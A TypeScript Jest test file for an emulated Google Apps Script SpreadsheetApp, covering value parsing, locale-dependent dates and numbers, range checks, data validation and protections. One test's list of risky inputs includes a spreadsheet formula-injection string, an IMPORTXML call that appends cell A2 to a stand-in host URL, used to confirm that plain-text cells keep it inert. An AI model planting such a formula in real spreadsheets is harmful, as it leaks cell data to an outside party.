/** The emulated SpreadsheetApp: how values are read "as typed", grid rules, formats, validation, protection. */
import { Emulator } from '../tools/emulator';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

function setup(opts: ConstructorParameters<typeof Emulator>[0] = {}) {
  const emu = new Emulator(opts);
  const g = emu.globals() as { SpreadsheetApp: GoogleAppsScript.Spreadsheet.SpreadsheetApp };
  const sheet = g.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Sheet1') as Sheet;
  return { emu, app: g.SpreadsheetApp, sheet };
}

describe('a new spreadsheet', () => {
  it('has one empty 1000 × 26 Sheet1 in WIB, and a Drive-style id and URL', () => {
    const { emu, sheet } = setup({ spreadsheetName: 'Register' });
    const ss = emu.spreadsheet;
    expect(ss.getSheets().map((s) => s.getName())).toEqual(['Sheet1']);
    expect([sheet.getMaxRows(), sheet.getMaxColumns(), sheet.getLastRow(), sheet.getLastColumn()]).toEqual([1000, 26, 0, 0]);
    expect(ss.getSpreadsheetTimeZone()).toBe('Asia/Jakarta');
    expect(ss.getName()).toBe('Register');
    expect(ss.getId()).toMatch(/^[\w-]{44}$/);
    expect(ss.getUrl()).toBe(`https://docs.google.com/spreadsheets/d/${ss.getId()}/edit`);
  });

  it('holds at most 10 million cells, empty ones included', () => {
    const { sheet } = setup();
    sheet.insertRowsAfter(1000, 383_615); // 384 615 × 26 = 9 999 990 cells
    expect(() => sheet.insertRowsAfter(1000, 1)).toThrow('above the limit of 10000000 cells');
    sheet.deleteColumns(8, 19);
    sheet.insertRowsAfter(1000, 500_000);
    expect(sheet.getMaxRows()).toBe(884_615);
  });

  it("refuses a second sheet of the same name (ignoring case) with Google's message", () => {
    const { emu } = setup();
    emu.spreadsheet.insertSheet('Episode');
    expect(() => emu.spreadsheet.insertSheet('episode')).toThrow(
      'A sheet with the name "episode" already exists. Please enter another name.',
    );
    expect(emu.spreadsheet.insertSheet('Tamu', 0).getIndex()).toBe(1);
    expect(emu.spreadsheet.getActiveSheet().getName()).toBe('Tamu');
  });
});

describe('values written by a script are read as if typed', () => {
  const cases: Array<[string, unknown, unknown, string]> = [
    ['a formula', '=1+1', undefined, '=1+1'],
    ['a number-like string', '0812', 812, ''],
    ['a "+" number', '+62812', 62812, ''],
    ['a decimal', '1.5', 1.5, ''],
    ['an exponent', '1e3', 1000, ''],
    ['"-" followed by a formula', '-1+2', undefined, '=-1+2'],
    ['"+" followed by text', '+62 812-3456', undefined, '=+62 812-3456'],
    ['TRUE in any case', 'true', true, ''],
    ['a leading apostrophe (kept out of the value)', "'0812", '0812', ''],
    ['an @mention', '@user', '@user', ''],
    ['a leading tab', '\t=cmd', '\t=cmd', ''],
    ['a phone number with dashes', '0812-3456-7890', '0812-3456-7890', ''],
  ];
  it.each(cases)('%s', (_what, input, value, formula) => {
    const { sheet } = setup();
    const cell = sheet.getRange('B2');
    cell.setValue(input);
    expect(cell.getFormula()).toBe(formula);
    if (value !== undefined) expect(cell.getValue()).toBe(value);
  });

  it('keeps every string verbatim in a plain-text (@) cell', () => {
    const { sheet } = setup();
    const risky = [
      '=IMPORTXML("https://x.example/?"&A2,"//a")',
      '+62812',
      '0812',
      '-1+2',
      '@user',
      '\tTAB',
      "'quoted",
      'TRUE',
      '2026-11-28',
    ];
    const range = sheet.getRange(1, 1, risky.length, 1).setNumberFormat('@');
    range.setValues(risky.map((v) => [v]));
    expect(range.getValues()).toEqual(risky.map((v) => [v]));
    expect(
      range
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);
  });

  it('does not evaluate formulas: reading one fails loudly, getFormulas shows it', () => {
    const { emu, sheet } = setup();
    sheet.getRange('C3').setValue('=HYPERLINK("x")');
    expect(() => sheet.getDataRange().getValues()).toThrow(
      'Emulator: formula evaluation (Sheet1!C3 holds =HYPERLINK("x")) is not implemented',
    );
    expect(sheet.getRange('C3').getFormulas()).toEqual([['=HYPERLINK("x")']]);
    sheet.getRange('A1').setValue(1.5);
    expect(emu.displayValues('Sheet1')).toEqual([
      ['1.5', '', ''],
      ['', '', ''],
      ['', '', { formula: '=HYPERLINK("x")' }],
    ]);
  });

  it('refuses strings whose reading it does not model instead of guessing', () => {
    const { sheet } = setup();
    for (const s of ['08:30', '50%', '$5', 'Nov 28', '5.12.2026', '5/12']) {
      expect(() => sheet.getRange('A1').setValue(s)).toThrow(/^Emulator: Sheets' parsing of .* is not implemented$/);
    }
  });

  it('reads a typed date and number as the spreadsheet locale says: en_US month first, id_ID day first and decimal comma', () => {
    const typed = (locale: string, s: string) => {
      const emu = new Emulator({ locale });
      const cell = emu.spreadsheet.getSheets()[0].getRange('A1');
      cell.setValue(s);
      const v = cell.getValue();
      return v instanceof Date ? `${v.toISOString()} ${cell.getNumberFormat()}` : v;
    };
    expect(typed('en_US', '05/12/2026')).toBe('2026-05-11T17:00:00.000Z m/d/yyyy');
    expect(typed('en_US', '13/12/2026')).toBe('13/12/2026'); // no 13th month: stays text
    expect(typed('id_ID', '05/12/2026')).toBe('2026-12-04T17:00:00.000Z dd/mm/yyyy');
    expect(typed('id_ID', '13/12/2026 08:30')).toBe('2026-12-13T01:30:00.000Z dd/mm/yyyy h:mm');
    expect(typed('id_ID', '12/13/2026')).toBe('12/13/2026');
    expect([
      typed('en_US', '1,234.5'),
      typed('en_US', '1.5'),
      typed('id_ID', '1,5'),
      typed('id_ID', '1.234,5'),
      typed('id_ID', '1.000'),
    ]).toEqual([1234.5, 1.5, 1.5, 1234.5, 1000]);
    expect(() => typed('id_ID', '1.5')).toThrow(/parsing of "1.5" .* is not implemented/);
  });

  it('stores null and undefined as empty cells, and limits a cell to 50000 characters', () => {
    const { sheet } = setup();
    sheet.getRange(1, 1, 1, 3).setValues([[null, undefined, '']]);
    expect(sheet.getLastRow()).toBe(0);
    expect(() => sheet.getRange('A1').setValue('x'.repeat(50_001))).toThrow(
      'Your input contains more than the maximum of 50000 characters in a single cell.',
    );
  });
});

describe('dates', () => {
  it('reads an ISO date string as a date in the spreadsheet zone and returns a new Date each time', () => {
    const { sheet } = setup();
    const cell = sheet.getRange('A1');
    cell.setValue('2026-11-28');
    const d = cell.getValue() as Date;
    expect(d).toBeInstanceOf(Date);
    expect(d.toISOString()).toBe('2026-11-27T17:00:00.000Z');
    expect(cell.getValue()).not.toBe(d);
    expect(cell.getNumberFormat()).toBe('yyyy-mm-dd');
    cell.setValue('2026-11-28 08:30');
    expect((cell.getValue() as Date).toISOString()).toBe('2026-11-28T01:30:00.000Z');
  });

  it("stores a Date and displays it with the cell's date format in the sheet zone", () => {
    const { sheet } = setup();
    const cell = sheet.getRange('A1').setNumberFormat('dd/mm/yyyy hh:mm');
    cell.setValue(new Date('2026-11-28T01:05:00Z'));
    expect((cell.getValue() as Date).getTime()).toBe(Date.parse('2026-11-28T01:05:00Z'));
    expect(cell.getDisplayValue()).toBe('28/11/2026 08:05');
    expect(sheet.getRange('B1').setValue(new Date('2026-11-28T01:05:00Z')).getNumberFormat()).toBe('M/d/yyyy H:mm:ss');
    expect(sheet.getRange('B1').getDisplayValue()).toBe('11/28/2026 8:05:00');
  });

  it('keeps the serial when the zone changes, so the instant moves (as in Sheets)', () => {
    const { emu, sheet } = setup();
    sheet.getRange('A1').setValue('2026-11-28');
    emu.spreadsheet.setSpreadsheetTimeZone('UTC');
    expect((sheet.getRange('A1').getValue() as Date).toISOString()).toBe('2026-11-28T00:00:00.000Z');
  });

  it('displays numbers with the supported formats and refuses others', () => {
    const { sheet } = setup();
    const r = sheet.getRange(1, 1, 1, 5).setValues([[1234.5, 1234.5, 1234.567, 0.25, true]]);
    r.setNumberFormats([['0', '#,##0', '#,##0.00', '0%', 'General']]);
    expect(r.getDisplayValues()).toEqual([['1235', '1,235', '1,234.57', '25%', 'TRUE']]);
    sheet.getRange('F1').setValue(1).setNumberFormat('[$Rp] #,##0');
    expect(() => sheet.getRange('F1').getDisplayValue()).toThrow('Emulator: displaying number format "[$Rp] #,##0" is not implemented');
  });
});

describe('ranges', () => {
  it("checks setValues dimensions with Sheets' messages", () => {
    const { sheet } = setup();
    expect(() => sheet.getRange(1, 1, 2, 2).setValues([[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => sheet.getRange(1, 1, 1, 2).setValues([[1, 2, 3]])).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 3 but the range has 2.',
    );
  });

  it('checks coordinates like getRange does', () => {
    const { sheet } = setup();
    expect(() => sheet.getRange(0, 1)).toThrow('The starting row of the range is too small.');
    expect(() => sheet.getRange(1, 1, 0, 1)).toThrow('The number of rows in the range must be at least 1.');
    expect(() => sheet.getRange(1000, 1, 2, 1)).toThrow('The coordinates of the range are outside the dimensions of the sheet.');
    expect(() => sheet.getRange('A1:B')).not.toThrow();
    expect(sheet.getRange('B2:C').getNumRows()).toBe(999);
    expect(sheet.getRange('C:A').getA1Notation()).toBe('A1:C1000');
  });

  it('appends after the last row with content and grows the grid', () => {
    const { sheet } = setup();
    sheet.getRange('C5').setValue('x');
    sheet.appendRow(['a', '0812', '=SUM(1)']);
    expect(sheet.getLastRow()).toBe(6);
    expect(sheet.getRange(6, 1, 1, 3).getFormulas()).toEqual([['', '', '=SUM(1)']]);
    expect(sheet.getRange('B6').getValue()).toBe(812);
    sheet.getRange(1000, 1).setValue('last');
    sheet.appendRow(Array.from({ length: 30 }, (_, i) => i));
    expect([sheet.getMaxRows(), sheet.getMaxColumns(), sheet.getLastRow(), sheet.getLastColumn()]).toEqual([1001, 30, 1001, 30]);
  });

  it('inserts and deletes rows, carrying formats and protections along', () => {
    const { sheet } = setup();
    sheet
      .getRange('A2:A3')
      .setNumberFormat('@')
      .setValues([['x'], ['y']]);
    const p = sheet.getRange('A3').protect();
    sheet.insertRowsAfter(2, 2);
    expect(sheet.getRange('A3').getNumberFormat()).toBe('@');
    expect(sheet.getRange('A5').getValue()).toBe('y');
    expect(p.getRange().getA1Notation()).toBe('A5');
    sheet.deleteRows(1, 2);
    expect(p.getRange().getA1Notation()).toBe('A3');
    expect(() => sheet.deleteRows(1, sheet.getMaxRows())).toThrow('Sorry, it is not possible to delete all non-frozen rows.');
  });
});

describe('what the spreadsheet stores for inspection', () => {
  it('keeps validation rules; a strict rule rejects a script write of a value outside it, as Google does', () => {
    const { app, emu, sheet } = setup();
    sheet.getRange('B2').setValue('lainnya');
    const rule = app.newDataValidation().requireValueInList(['koperasi', 'ukm']).setAllowInvalid(false).setHelpText('Pilih').build();
    sheet.getRange('B2:B10').setDataValidation(rule);
    expect(() => sheet.getRange('B3:B4').setValues([['ukm'], ['Koperasi']])).toThrow(
      'The data you entered in cell B4 violates the data validation rules set on this cell.',
    );
    expect(sheet.getRange('B3').getValue()).toBe(''); // all or nothing
    sheet.getRange('B3:B4').setValues([['ukm'], ['']]);
    sheet.getRange('B5').setDataValidation(rule.copy().setAllowInvalid(true).build());
    sheet.getRange('B5').setValue('lainnya'); // a warning-only rule flags the cell instead
    const read = sheet.getRange('B6').getDataValidation()!;
    expect(String(read.getCriteriaType())).toBe('VALUE_IN_LIST');
    expect(read.getCriteriaValues()).toEqual([['koperasi', 'ukm'], true]);
    expect([read.getAllowInvalid(), read.getHelpText()]).toEqual([false, 'Pilih']);
    expect(emu.invalidCells()).toEqual([
      { sheet: 'Sheet1', a1: 'B2', value: 'lainnya', criteria: 'VALUE_IN_LIST' },
      { sheet: 'Sheet1', a1: 'B5', value: 'lainnya', criteria: 'VALUE_IN_LIST' },
    ]);
    expect(() => sheet.getRange('C1').setDataValidation(app.newDataValidation().requireDate() as never)).toThrow(
      /don't match the method signature/,
    );
  });

  it('records frozen rows, notes, formats and styles', () => {
    const { emu, sheet } = setup();
    sheet.setFrozenRows(1);
    sheet.getRange('A1').setValue('Nama').setFontWeight('bold').setBackground('#eeeeee').setNote('wajib');
    expect(sheet.getFrozenRows()).toBe(1);
    expect(emu.cell('Sheet1', 'A1')).toEqual({ v: 'Nama', note: 'wajib', style: { fontWeight: 'bold', background: '#eeeeee' } });
    sheet.getRange('A1:B2').setFontWeights([
      ['normal', 'bold'],
      [null, 'bold'],
    ]);
    expect(['A1', 'B1', 'A2', 'B2'].map((a1) => sheet.getRange(a1).getFontWeight())).toEqual(['normal', 'bold', 'normal', 'bold']);
    expect(() => sheet.getRange('A1:B2').setFontWeights([['bold']])).toThrow();
    expect(() => sheet.getRange('A1').setFontWeights([['heavy' as 'bold']])).toThrow('Invalid argument');
  });

  it('lets protections block only users they exclude; warning-only never blocks', () => {
    const { app, emu, sheet } = setup();
    const p = sheet.getRange('A1:A5').protect().setDescription('sistem');
    expect(p.canEdit()).toBe(true);
    const write = (user: string) => emu.execute(() => sheet.getRange('A2').setValue('x'), { kind: 'sidebar', user });
    expect(() => write('staf@example.go.id')).not.toThrow(); // mirrors the file's editors until the list changes
    p.removeEditors(p.getEditors());
    expect(() => write('staf@example.go.id')).toThrow('You are trying to edit a protected cell or object.');
    expect(() => write('pelaksana@example.go.id')).not.toThrow(); // the owner
    p.setWarningOnly(true);
    expect(() => write('staf@example.go.id')).not.toThrow();
    expect(sheet.getProtections(app.ProtectionType.RANGE).map((x) => x.getDescription())).toEqual(['sistem']);
    expect(sheet.protect().getProtectionType()).toBe(sheet.protect().getProtectionType());
    expect(sheet.getProtections(app.ProtectionType.SHEET)).toHaveLength(1);
  });
});
